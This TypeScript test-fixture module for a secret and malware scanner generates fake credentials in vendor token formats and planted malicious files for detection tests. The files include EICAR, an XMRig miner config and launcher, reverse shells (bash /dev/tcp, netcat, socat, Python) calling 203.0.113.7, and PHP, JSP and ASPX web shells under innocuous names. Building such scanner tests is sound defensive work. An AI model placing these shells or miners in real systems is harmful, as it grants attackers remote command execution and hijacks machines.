/**
 * Planted secrets and malicious files for the content tests, generated at test time in the real
 * formats (nothing token-shaped is committed): AWS's documented example keys, private keys freshly
 * made by openssl, random tokens in each vendor's documented shape, EICAR made with printf.
 */
import { execFileSync, type ExecFileSyncOptionsWithStringEncoding } from 'node:child_process'
import { createHmac, randomBytes } from 'node:crypto'

const B62 = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789'

/** Random base62 text of `n` characters. */
export function base62(n: number): string {
  const bytes = randomBytes(n * 2)
  let out = ''
  for (let i = 0; out.length < n; i++) {
    const b = bytes[i % bytes.length] as number
    if (b < 248) out += B62[b % 62]
  }
  return out
}

function digits(n: number): string {
  return Array.from(randomBytes(n), (b) => String(b % 10)).join('')
}

/** A fresh private key in PEM made by openssl: rsa (PKCS#1 "RSA PRIVATE KEY"), ec ("EC PRIVATE KEY") or pkcs8 ("PRIVATE KEY"). */
export function opensslKey(kind: 'rsa' | 'ec' | 'pkcs8'): string {
  const quiet: ExecFileSyncOptionsWithStringEncoding = { encoding: 'utf8', stdio: ['pipe', 'pipe', 'ignore'] }
  if (kind === 'ec') return execFileSync('openssl', ['ecparam', '-genkey', '-name', 'prime256v1', '-noout'], quiet)
  const pkcs8 = execFileSync('openssl', ['genpkey', '-algorithm', 'RSA', '-pkeyopt', 'rsa_keygen_bits:2048'], quiet)
  if (kind === 'pkcs8') return pkcs8
  return execFileSync('openssl', ['rsa', '-traditional'], { ...quiet, input: pkcs8 })
}

/** The EICAR test file, written by printf as the EICAR documentation shows. */
export function eicar(): Buffer {
  return execFileSync('sh', ['-c', "printf '%s' 'X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'"])
}

function b64url(s: string | Buffer): string {
  return Buffer.from(s).toString('base64url')
}

/** An HS256-signed JWT. */
export function jwt(): string {
  const head = b64url(JSON.stringify({ alg: 'HS256', typ: 'JWT' }))
  const body = b64url(JSON.stringify({ sub: 'svc-billing', iat: 1_700_000_000, scope: 'admin' }))
  const sig = createHmac('sha256', randomBytes(32)).update(`${head}.${body}`).digest('base64url')
  return `${head}.${body}.${sig}`
}

/** One planted secret: the file that holds it, the rule that must find it and the raw value. */
export interface PlantedSecret {
  readonly path: string
  readonly content: string
  readonly rule: string
  /** Raw secret values that must never appear in any output. */
  readonly raw: readonly string[]
  readonly line: number
}

/** Every planted secret, freshly generated. */
export function plantedSecrets(): PlantedSecret[] {
  const ghp = `ghp_${base62(36)}`
  const fine = `github_pat_${base62(22)}_${base62(59)}`
  const glpat = `glpat-${base62(20)}`
  const slack = `xoxb-${digits(12)}-${digits(13)}-${base62(24)}`
  const stripe = `sk_live_${base62(24)}`
  const npm = `npm_${base62(36)}`
  const npmrcTok = `npm_${base62(36)}`
  const ltai = `LTAI5t${base62(18)}`
  const aliSecret = base62(30)
  const azureKey = randomBytes(64).toString('base64')
  const token = jwt()
  const kubeTok = base62(40)
  const dockerAuth = Buffer.from(`deploy:${base62(20)}`).toString('base64')
  const pypi = `pypi-AgEIcHlwaS5vcmc${base62(60)}`
  const gitTok = `ghp_${base62(36)}`
  const dbPass = base62(16)
  const rsa = opensslKey('rsa')
  const ec = opensslKey('ec')
  const pk8 = opensslKey('pkcs8')
  const keyId = randomBytes(20).toString('hex')
  const body = (pem: string): string => pem.split('\n').slice(1, -2).join('\n')
  const sa = JSON.stringify({ type: 'service_account', project_id: 'bulwark-demo', private_key_id: keyId, private_key: pk8, client_email: 'ci@bulwark-demo.iam.gserviceaccount.com', client_id: digits(21), token_uri: 'https://oauth2.googleapis.com/token' }, null, 2)
  return [
    { path: 'root/.aws/credentials', content: '[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n', rule: 'aws-access-key-id', raw: ['AKIAIOSFODNN7EXAMPLE'], line: 2 },
    { path: 'root/.aws/credentials', content: '', rule: 'aws-secret-access-key', raw: ['wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY'], line: 3 },
    { path: 'root/.ssh/id_rsa', content: rsa, rule: 'private-key', raw: [body(rsa)], line: 1 },
    { path: 'etc/ssl/private/server.key', content: ec, rule: 'private-key', raw: [body(ec)], line: 1 },
    { path: 'srv/app/config.yaml', content: `github:\n  token: ${ghp}\n  fine: ${fine}\ngitlab: ${glpat}\n`, rule: 'github-token', raw: [ghp, fine], line: 2 },
    { path: 'srv/app/config.yaml', content: '', rule: 'github-token', raw: [], line: 3 },
    { path: 'srv/app/config.yaml', content: '', rule: 'gitlab-token', raw: [glpat], line: 4 },
    { path: 'srv/app/notify.py', content: `SLACK = "${slack}"\nSTRIPE_KEY = '${stripe}'\n`, rule: 'slack-token', raw: [slack], line: 1 },
    { path: 'srv/app/notify.py', content: '', rule: 'stripe-live-key', raw: [stripe], line: 2 },
    { path: 'srv/app/publish.sh', content: `#!/bin/sh\nexport NPM_TOKEN=${npm}\nnpm publish\n`, rule: 'npm-token', raw: [npm], line: 2 },
    { path: 'opt/gcp/sa.json', content: sa, rule: 'gcp-service-account', raw: [keyId, body(pk8).split('\n')[1] ?? ''], line: 4 },
    { path: 'srv/app/aliyun.env', content: `ALIBABA_CLOUD_ACCESS_KEY_ID=${ltai}\nALIBABA_CLOUD_ACCESS_KEY_SECRET=${aliSecret}\n`, rule: 'alibaba-access-key-id', raw: [ltai], line: 1 },
    { path: 'srv/app/aliyun.env', content: '', rule: 'alibaba-access-key-secret', raw: [aliSecret], line: 2 },
    { path: 'srv/app/appsettings.json', content: `{\n  "Storage": "DefaultEndpointsProtocol=https;AccountName=bulwarkdemo;AccountKey=${azureKey};EndpointSuffix=core.windows.net"\n}\n`, rule: 'azure-storage-key', raw: [azureKey], line: 2 },
    { path: 'srv/app/session.txt', content: `Authorization: Bearer ${token}\n`, rule: 'jwt', raw: [token], line: 1 },
    { path: 'root/.kube/config', content: `apiVersion: v1\nkind: Config\nclusters:\n- cluster:\n    server: https://10.0.0.1:6443\n  name: prod\nusers:\n- name: admin\n  user:\n    token: ${kubeTok}\ncontexts: []\n`, rule: 'kubeconfig-credentials', raw: [kubeTok], line: 10 },
    { path: 'root/.docker/config.json', content: `{\n  "auths": {\n    "registry.internal:5000": {\n      "auth": "${dockerAuth}"\n    }\n  }\n}\n`, rule: 'docker-config-auth', raw: [dockerAuth], line: 4 },
    { path: 'root/.npmrc', content: `registry=https://registry.npmjs.org/\n//registry.npmjs.org/:_authToken=${npmrcTok}\n`, rule: 'npmrc-auth', raw: [npmrcTok], line: 2 },
    { path: 'root/.pypirc', content: `[distutils]\nindex-servers = pypi\n\n[pypi]\nusername = __token__\npassword = ${pypi}\n`, rule: 'pypirc-password', raw: [pypi], line: 6 },
    { path: 'root/.git-credentials', content: `https://ci-bot:${gitTok}@github.com\n`, rule: 'git-credentials', raw: [gitTok], line: 1 },
    { path: 'srv/app/.env', content: `NODE_ENV=production\nDATABASE_URL=postgres://app:${dbPass}@db.internal:5432/app\n`, rule: 'database-url-password', raw: [dbPass], line: 2 },
  ]
}

/** The planted secrets merged into files (several secrets share a file). */
export function plantedSecretFiles(list: readonly PlantedSecret[]): Record<string, string> {
  const files: Record<string, string> = {}
  for (const s of list) if (s.content !== '') files[s.path] = s.content
  return files
}

/** One planted malicious file and the rule that must report it. */
export interface PlantedMalware {
  readonly path: string
  readonly content: string | Buffer
  readonly rule: string
  readonly line?: number
  readonly mode?: number
}

/** Planted malicious content: EICAR, an XMRig config and launcher, reverse shells, web shells. */
export function plantedMalware(): PlantedMalware[] {
  const xmrigConfig = JSON.stringify({
    autosave: true, 'donate-level': 1, cpu: { enabled: true, 'max-threads-hint': 100 },
    pools: [{ algo: 'rx/0', coin: 'monero', url: 'pool.supportxmr.com:443', user: '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A', tls: true }],
  }, null, 2)
  return [
    { path: 'tmp/.cache/eicar.com', content: eicar(), rule: 'known-bad-hash' },
    { path: 'srv/www/eicar-padded.txt', content: Buffer.concat([eicar(), Buffer.from('   \n')]), rule: 'eicar-test-file', line: 1 },
    { path: 'opt/.x/config.json', content: xmrigConfig, rule: 'miner-xmrig-config', line: 3 },
    { path: 'opt/.x/config.json', content: '', rule: 'miner-pool-host', line: 12 },
    { path: 'usr/local/bin/start-worker.sh', content: '#!/bin/sh\ncd /opt/.x\n./xmrig -o stratum+tcp://xmr.pool.minergate.com:45700 -u worker1 -p x --donate-level 1 &\n', rule: 'miner-launcher', line: 3, mode: 0o755 },
    { path: 'usr/local/bin/start-worker.sh', content: '', rule: 'miner-stratum-url', line: 3 },
    { path: 'usr/local/bin/update.sh', content: '#!/bin/bash\nwhile true; do\n  bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n  sleep 60\ndone\n', rule: 'reverse-shell-dev-tcp', line: 3, mode: 0o755 },
    { path: 'opt/tools/backup.sh', content: '#!/bin/sh\nnc -e /bin/sh 203.0.113.7 9001\n', rule: 'reverse-shell-netcat', line: 2 },
    { path: 'opt/tools/sync.sh', content: '#!/bin/sh\nsocat TCP:203.0.113.7:5555 EXEC:/bin/bash,pty,stderr,setsid\n', rule: 'reverse-shell-socat', line: 2 },
    { path: 'opt/tools/health.py', content: 'import os\nos.system("python3 -c \'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\\"203.0.113.7\\",4242));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);import pty;pty.spawn(\\"/bin/sh\\")\'")\n', rule: 'reverse-shell-script', line: 2 },
    { path: 'var/www/html/wp-content/uploads/img.php', content: "<?php\nif (isset($_REQUEST['cmd'])) {\n  echo '<pre>'; system($_REQUEST['cmd']); echo '</pre>';\n}\n?>\n", rule: 'web-shell-php', line: 3 },
  ]
}

/** The planted malware merged into files. */
export function plantedMalwareFiles(list: readonly PlantedMalware[]): Record<string, { content: string | Buffer; mode?: number }> {
  const files: Record<string, { content: string | Buffer; mode?: number }> = {}
  for (const m of list) if (m.content !== '') files[m.path] = { content: m.content, ...(m.mode ? { mode: m.mode } : {}) }
  return files
}

/** Secret formats the planted image does not carry, checked here. */
export const EXTRA_SECRET_EXAMPLES = [
  { rule: 'slack-webhook', path: 'app/alerts.env', text: `SLACK_WEBHOOK=https://hooks.slack.com/services/T${base62(8).toUpperCase()}/B${base62(8).toUpperCase()}/${base62(24)}\n` },
  { rule: 'stripe-test-key', path: 'app/stripe.env', text: `STRIPE_KEY=sk_test_${base62(24)}\n` },
]

/** Malicious shapes the planted image does not carry, checked here. */
export const EXTRA_MALWARE_EXAMPLES = [
  { rule: 'web-shell-jsp', path: 'app/webapps/ROOT/cmd.jsp', text: '<%@ page import="java.io.*" %>\n<% Process p = Runtime.getRuntime().exec(request.getParameter("cmd")); %>\n' },
  { rule: 'web-shell-asp', path: 'inetpub/wwwroot/x.aspx', text: '<%@ Page Language="Jscript"%><%eval(Request.Item["pass"],"unsafe");%>\n' },
  { rule: 'miner-xmrig-binary', path: 'usr/bin/kworkerd', text: '' },
]
